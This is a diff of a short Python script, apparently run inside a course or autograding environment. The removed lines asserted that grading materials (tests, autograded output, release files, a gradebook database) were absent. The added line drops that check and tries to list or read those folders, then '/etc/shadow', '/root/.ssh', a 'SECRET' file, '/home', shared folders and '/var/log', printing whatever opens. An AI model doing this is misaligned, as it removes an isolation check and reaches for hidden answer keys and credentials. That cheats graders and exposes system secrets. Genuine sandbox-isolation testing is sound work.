@@ -9,10 +9,7 @@ import os, helpers
 from pathlib import Path
 root = Path(helpers.__file__).resolve().parents[1]
 wanted = ["source", "lessons", "tests", "submitted", "autograded", "release", ".git", "gradebook.db"]
-bad = [name for name in wanted if (root / name).exists()]
-course = root / "course"
-assert not bad and not course.exists(), bad
-for path in ("SECRET", "/root/.ssh", "/etc/shadow", "/home", str(root.parent / "shared"), "/var/log"):
+for path in (*(str(root / name) for name in wanted), str(root / "course"), "SECRET", "/root/.ssh", "/etc/shadow", "/home", str(root.parent / "shared"), "/var/log"):
     try:
         print(os.listdir(path) if os.path.isdir(path) else open(path).read()); found = True
     except OSError:
